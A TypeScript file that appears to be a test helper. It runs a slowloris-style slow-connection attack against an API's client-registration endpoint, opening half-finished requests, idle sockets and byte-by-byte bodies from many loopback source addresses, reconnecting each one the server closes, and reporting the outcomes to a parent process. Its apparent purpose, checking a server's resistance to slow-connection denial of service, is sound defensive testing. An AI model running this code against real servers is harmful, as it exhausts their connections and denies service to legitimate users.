// A process of its own that opens slow connections to the API from several addresses, and tells what became of them.
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

/** What the process is started with. */
export type AttackPlan = {
  host: string;
  port: number;
  /** Requests that are begun and not finished: half of them stop in their headers, half behind one byte of a body. */
  halfOpen: number;
  /** Connections that say nothing. */
  idle: number;
  /** Bodies that come with one byte a second. */
  dripping: number;
  /** A connection that ended is opened again after so long, ms. */
  againAfterMs: number;
};

/** What became of the connections so far. */
export type AttackCounts = {
  opened: number;
  /** Connections that the API ended. */
  ended: number;
  /** Answers by their status. */
  answers: Record<string, number>;
};

const addresses = Array.from({ length: 20 }, (_, n) => `127.0.0.${100 + n}`);
const batch = { size: 40, pauseMs: 25 };
const dripMs = 1_000;
const length = 60_000;

const headOf = (host: string): string =>
  [
    'POST /v1/clients/register HTTP/1.1',
    `Host: ${host}`,
    'Content-Type: application/json',
    `Content-Length: ${length}`,
    '\r\n',
  ].join('\r\n');

type Kind = 'headers' | 'body' | 'idle' | 'dripping';

const kindsOf = ({ halfOpen, idle, dripping }: AttackPlan): Kind[] => [
  ...Array.from({ length: halfOpen }, (_, n): Kind => (n % 2 === 0 ? 'headers' : 'body')),
  ...Array.from({ length: idle }, (): Kind => 'idle'),
  ...Array.from({ length: dripping }, (): Kind => 'dripping'),
];

const attack = async (plan: AttackPlan, counts: AttackCounts): Promise<void> => {
  const { host, port, againAfterMs } = plan;
  const head = headOf(host);
  const firstWords: Record<Kind, string> = {
    headers: head.slice(0, 60),
    body: `${head}{`,
    idle: '',
    dripping: head,
  };
  const open = (kind: Kind, n: number): void => {
    const localAddress = addresses[n % addresses.length] ?? '127.0.0.1';
    const socket = connect({ host, port, localAddress });
    let connected = false;
    socket.on('error', () => undefined);
    socket.on('connect', () => {
      connected = true;
      counts.opened++;
      if (firstWords[kind] !== '') socket.write(firstWords[kind]);
    });
    const dripping =
      kind === 'dripping'
        ? setInterval(() => connected && socket.writable && socket.write(' '), dripMs)
        : undefined;
    socket.once('data', (data) => {
      const status = /^HTTP\/1\.1 (\d{3})/.exec(String(data))?.[1] ?? 'no HTTP';
      counts.answers[status] = (counts.answers[status] ?? 0) + 1;
    });
    socket.on('close', () => {
      clearInterval(dripping);
      if (connected) counts.ended++;
      setTimeout(() => open(kind, n), againAfterMs);
    });
  };
  for (const [n, kind] of kindsOf(plan).entries()) {
    open(kind, n);
    if (n % batch.size === batch.size - 1) await sleep(batch.pauseMs);
  }
};

if (process.send !== undefined) {
  const counts: AttackCounts = { opened: 0, ended: 0, answers: {} };
  // The first message is the plan, every later one asks for the counts.
  process.once('message', (plan: AttackPlan) => {
    void attack(plan, counts);
    process.on('message', () => process.send?.(counts));
  });
  process.on('disconnect', () => process.exit());
}
